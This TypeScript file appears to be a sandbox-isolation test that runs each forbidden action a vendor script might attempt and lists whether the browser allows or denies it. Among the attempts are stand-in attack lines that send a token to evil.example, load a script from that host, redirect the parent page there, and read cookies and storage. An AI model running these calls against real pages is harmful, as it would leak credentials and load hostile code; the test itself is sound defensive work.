/** Tries each action that a vendor's script must not be able to take, and lists the outcomes. */
const attempts: Readonly<Record<string, () => unknown>> = {
  'read the page': () => parent.document.title,
  'read the page’s storage': () => parent.localStorage.getItem('token'),
  'read storage': () => localStorage.getItem('token'),
  'read the tab’s storage': () => sessionStorage.length,
  'read cookies': () => document.cookie,
  'set a cookie': () => (document.cookie = 'sandbox-scenario=x'),
  'open a database': () => indexedDB.open('x'),
  'open the caches': () => caches.keys(),
  'navigate the page': () => (parent.location.href = 'https://evil.example/'),
  'replace the whole page': () => {
    parent.location.replace('https://evil.example/');
  },
  'call the API': () => fetch(new URL('/api/sys/auth/token/info', document.baseURI), { method: 'POST' }),
  'send data to another origin': () => fetch('https://evil.example/?token'),
  'load a script of another origin': () =>
    new Promise((resolve, reject) => {
      const script = document.createElement('script');
      script.onload = resolve;
      script.onerror = reject;
      script.src = 'https://evil.example/more.js';
      document.head.append(script);
    }),
};

const list = document.createElement('ol');
document.body.append(list);

async function tryAll(): Promise<void> {
  for (const [name, attempt] of Object.entries(attempts)) {
    let outcome = 'done';
    try {
      await attempt();
    } catch {
      outcome = 'denied';
    }
    const line = document.createElement('li');
    line.textContent = `${name}: ${outcome}`;
    list.append(line);
  }
  document.body.append('All attempts are done.');
}

void tryAll();
